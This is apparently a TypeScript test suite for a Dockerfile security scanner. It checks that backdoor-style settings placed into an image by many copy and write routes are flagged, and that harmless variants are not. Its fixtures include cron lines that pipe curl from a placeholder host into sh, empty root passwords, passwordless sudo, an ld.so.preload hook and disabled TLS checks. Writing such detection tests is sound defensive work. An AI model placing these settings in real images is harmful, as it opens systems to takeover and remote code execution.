/** Files that something obeys, by carriers that nobody wrote down: what an image holds weighs the same, whoever put it there. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsIn } from '../reported-in.ts';

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJc0QF9zKq1n0Zb3eYp2vHq8yYk5f6d7s8a9b0c1d2e3 a@b';

interface Obeyed {
  readonly path: string;
  readonly rule: string;
  readonly text: string;
  /** What it may as well hold. */
  readonly harmless: string;
}

const obeyed: readonly Obeyed[] = [
  ['/etc/passwd', 'weak-account-credential', 'root::0:0:root:/root:/bin/sh', 'root:x:0:0:root:/root:/bin/sh'],
  ['/etc/shadow', 'weak-account-credential', 'root::19000:0:99999:7:::', 'root:*:19000:0:99999:7:::'],
  ['/etc/sudoers', 'sudoers-nopasswd', 'app ALL=(ALL) NOPASSWD: ALL', 'app ALL=(ALL) ALL'],
  ['/etc/sudoers.d/app', 'sudoers-nopasswd', 'app ALL=(ALL) NOPASSWD: ALL', 'app ALL=(postgres) NOPASSWD: ALL'],
  ['/etc/doas.conf', 'sudoers-nopasswd', 'permit nopass app', 'permit persist app'],
  ['/etc/pam.d/su', 'sudoers-nopasswd', 'auth sufficient pam_permit.so', 'auth sufficient pam_rootok.so'],
  ['/etc/ld.so.preload', 'dangerous-env', '/tmp/hook.so', '/usr/lib/libjemalloc.so.2'],
  ['/root/.ssh/config', 'ssh-host-key-check-disabled', 'StrictHostKeyChecking no', 'StrictHostKeyChecking yes'],
  ['/root/.ssh/authorized_keys', 'authorized-key-in-image', key, '# none yet'],
  ['/etc/ssh/sshd_config', 'weak-account-credential', 'PermitEmptyPasswords yes', 'PermitEmptyPasswords no'],
  [
    '/etc/docker/daemon.json',
    'docker-daemon-tcp-exposed',
    '{"hosts": ["tcp://0.0.0.0:2375"]}',
    '{"hosts": ["unix:///run/docker.sock"]}',
  ],
  ['/etc/cron.d/app', 'pipe-to-shell', '* * * * * root curl -s http://a.example/x | sh', '* * * * * root app --clean'],
  ['/var/spool/cron/crontabs/root', 'pipe-to-shell', '* * * * * curl -s http://a.example/x | sh', '* * * * * app'],
  ['/etc/profile.d/app.sh', 'pipe-to-shell', 'curl -s http://a.example/x | sh', 'export EDITOR=vi'],
  ['/etc/pip.conf', 'tls-verification-disabled', '[global]\ntrusted-host = a.example', '[global]\ntimeout = 9'],
  [
    '/etc/apt/apt.conf.d/99app',
    'tls-verification-disabled',
    'Acquire::https::Verify-Peer "false";',
    'Acquire::Retries "3";',
  ],
  [
    '/etc/apt/sources.list.d/app.list',
    'package-signature-disabled',
    'deb [trusted=yes] https://a.example/ x main',
    'deb [signed-by=/etc/a.gpg] https://a.example/ x main',
  ],
  ['/root/.curlrc', 'tls-verification-disabled', 'insecure', 'silent'],
  ['/root/.gitconfig', 'tls-verification-disabled', '[http]\n\tsslVerify = false', '[http]\n\tsslVerify = true'],
  [
    '/etc/containers/policy.json',
    'image-verification-disabled',
    '{"default":[{"type":"insecureAcceptAnything"}]}',
    '{"default":[{"type":"reject"}]}',
  ],
].map(([path, rule, text, harmless]) => ({ path: path!, rule: rule!, text: `${text}\n`, harmless: `${harmless}\n` }));

interface Put {
  /** What another stage does first. */
  readonly before?: string;
  readonly steps: string;
  readonly context?: Readonly<Record<string, string>>;
}

interface At {
  readonly path: string;
  readonly folder: string;
  readonly name: string;
}

const writes: Carrier = ({ path }, text) => ({ steps: `RUN cat > ${path} <<'end'\n${text}end` });

type Carrier = (at: At, text: string) => Put;

const copied = (copy: string, step: string) => (text: string) => ({
  steps: `${copy}\nRUN ${step}`,
  context: { 'a/b': text },
});

/** Ways to put a text at a path. */
const carriers: Readonly<Record<string, Carrier>> = {
  'COPY has it': ({ path }, text) => ({ steps: `COPY <<'end' ${path}\n${text}end` }),
  'COPY has it for a folder': ({ name, folder }, text) => ({ steps: `COPY <<'${name}' ${folder}/\n${text}${name}` }),
  'its own name': ({ name, folder }, text) => ({
    steps: `COPY a/${name} ${folder}/`,
    context: { [`a/${name}`]: text },
  }),
  'another name': ({ path }, text) => ({ steps: `COPY a/b ${path}`, context: { 'a/b': text } }),
  'as JSON': ({ path }, text) => ({ steps: `ADD ["./a/b", "${path}"]`, context: { 'a/b': text } }),
  'of another owner': ({ path }, text) => ({ steps: `copy --chown=0:0 --link /a/b ${path}`, context: { 'a/b': text } }),
  'into a folder without a slash': ({ name, folder }, text) => ({
    steps: `COPY a/${name} b ${folder}`,
    context: { [`a/${name}`]: text, b: 'x' },
  }),
  'a variable': ({ folder, name }, text) => ({
    steps: `ARG D=${folder}\nCOPY a/b $D/\${N:-${name}}`,
    context: { 'a/b': text },
  }),
  'the working directory': ({ folder, name }, text) => ({
    steps: `WORKDIR ${folder}\nCOPY a/b ./${name}\nWORKDIR /`,
    context: { 'a/b': text },
  }),
  'a pattern': ({ name, folder }, text) => ({
    steps: `COPY a/*${name.slice(1)} ${folder}/`,
    context: { [`a/${name}`]: text },
  }),
  'a folder': ({ name, folder }, text) => ({ steps: `COPY a ${folder}`, context: { [`a/${name}`]: text } }),
  'the root of a file system': ({ path }, text) => ({ steps: 'ADD a /', context: { [`a${path}`]: text } }),
  parents: ({ path }, text) => ({ steps: `COPY --parents .${path} /`, context: { [path.slice(1)]: text } }),
  'another stage writes it': ({ path }, text) => ({
    before: `FROM debian:13 AS a\nRUN cat > /x/y <<'end'\n${text}end\n`,
    steps: `COPY --from=a /x/y ${path}`,
  }),
  'another stage has it in its place': ({ path }, text) => ({
    before: `FROM debian:13\nCOPY <<'end' /x${path}\n${text}end\n`,
    steps: 'COPY --from=0 /x /',
  }),
  'another stage copies it': ({ path }, text) => ({
    before: 'FROM debian:13 AS a\nCOPY a /x\n',
    steps: 'COPY --from=a /x /',
    context: { [`a${path}`]: text },
  }),
  cp: ({ path }, text) => copied('COPY a/b /tmp/c', `cp /tmp/c ${path}`)(text),
  'cp to where it works': ({ folder, name }, text) =>
    copied('COPY a/b /tmp/c', `cd ${folder} && cp /tmp/c ${name}`)(text),
  'cp into a folder': ({ folder, name }, text) =>
    copied(`COPY a/b /tmp/${name}`, `cp -t "${folder}" '/tmp/${name}'`)(text),
  mv: ({ path }, text) => copied('COPY a /tmp', `set -e; mv /tmp/b ${path}`)(text),
  install: ({ path }, text) => copied('COPY a/b /tmp/c', `if true; then install -D -m 600 /tmp/c ${path}; fi`)(text),
  cat: ({ path }, text) => copied('COPY a/b /tmp/c', `cat /tmp/c > ${path}`)(text),
  tee: ({ path }, text) => copied('COPY a/b /tmp/c', `cat /tmp/c | tee ${path}`)(text),
  'a link': ({ path }, text) => copied('COPY a/b /opt/c', `ln -sf /opt/c ${path}`)(text),
  'a program by itself': ({ path }, text) => ({
    steps: `COPY a/b /tmp/c\nRUN ["cp", "/tmp/c", "${path}"]`,
    context: { 'a/b': text },
  }),
  'what a step writes': ({ path }, text) => ({
    steps: `RUN <<'step'\ncat > /tmp/c <<'end'\n${text}end\nmv /tmp/c ${path}\nstep`,
  }),
  'a mount': ({ path }, text) => ({
    steps: `RUN --mount=type=bind,source=a,target=/m cp /m/b ${path}`,
    context: { 'a/b': text },
  }),
};

/** Where in the Dockerfile it happens. */
const positions: readonly ((put: Put) => string)[] = [
  ({ before = '', steps }) => `${before}FROM debian:13\n${steps}\nCMD ["app"]\n`,
  ({ before = '', steps }) => `${before}FROM debian:13 AS base\n${steps}\nFROM base\nUSER 1000\nCMD ["app"]\n`,
  ({ before = '', steps }) => `${before}FROM debian:13\nRUN make\nUSER root\n${steps}\nRUN make clean\nUSER 1000\n`,
];

interface Variation {
  readonly what: string;
  /** The file and the position. */
  readonly where: string;
  readonly rule: string;
  readonly files: Readonly<Record<string, string>>;
}

function variation(name: string, carrier: Carrier, file: Obeyed, text: string, position: number): Variation {
  const at = file.path.lastIndexOf('/');
  const put = carrier({ path: file.path, folder: file.path.slice(0, at), name: file.path.slice(at + 1) }, text);
  return {
    what: `${file.path}: ${name} (${position})`,
    where: `${file.path} (${position})`,
    rule: file.rule,
    files: { Dockerfile: positions[position]!(put), ...put.context },
  };
}

function variations(textOf: (file: Obeyed) => string): Variation[] {
  return obeyed.flatMap((file, i) =>
    Object.entries(carriers).flatMap(([name, carrier], j) =>
      [i + j, i + j + 1].map((n) => variation(name, carrier, file, textOf(file), n % positions.length)),
    ),
  );
}

/** What is reported of each by its rule: how severe. */
async function told(some: readonly Variation[]): Promise<readonly string[]> {
  const rules = new Set(obeyed.map(({ rule }) => rule));
  const found = await findingsIn(
    ({ id }) => rules.has(id),
    some.map(({ files }) => files),
  );
  return some.map(({ rule }, i) =>
    found[i]!.filter((finding) => finding.rule.id === rule)
      .map(({ severity }) => severity)
      .join(' '),
  );
}

test('a file that something obeys is told once, as severe as where a step writes it', async () => {
  const byStep = obeyed.flatMap((file) => positions.map((_, i) => variation('a step', writes, file, file.text, i)));
  const severities = await told(byStep);
  const severityOf = new Map(byStep.map(({ where }, i) => [where, severities[i]]));
  assert.ok(
    severities.every((each) => /^\w+$/.test(each)),
    severities.join(),
  );
  const all = variations(({ text }) => text);
  assert.ok(all.length >= 1000);
  const found = await told(all);
  const wrong = all.flatMap(({ what, where }, i) => {
    const expected = severityOf.get(where);
    return found[i] === expected ? [] : [`${what}: ${found[i] || 'nothing'}, and not ${expected}`];
  });
  assert.deepEqual(wrong, []);
});

test('one that holds what does no harm is not told', async () => {
  const all = variations(({ harmless }) => harmless);
  const found = await told(all);
  assert.deepEqual(
    all.flatMap(({ what }, i) => (found[i] === '' ? [] : [`${what}: ${found[i]}`])),
    [],
  );
});

test('a file that lies where nothing obeys it is not told', async () => {
  const places = ['/app/passwd', '/opt/sudoers.d/app', '/srv/daemon.json.example', '/usr/share/doc/app/crontab.txt'];
  const ofAccounts = obeyed.filter(({ rule }) => rule === 'weak-account-credential' || rule === 'sudoers-nopasswd');
  const all = places.flatMap((path) =>
    ofAccounts.map((file) => variation('another place', carriers['another name']!, { ...file, path }, file.text, 0)),
  );
  const found = await told(all);
  assert.deepEqual(
    all.filter((_, i) => found[i] !== ''),
    [],
  );
});
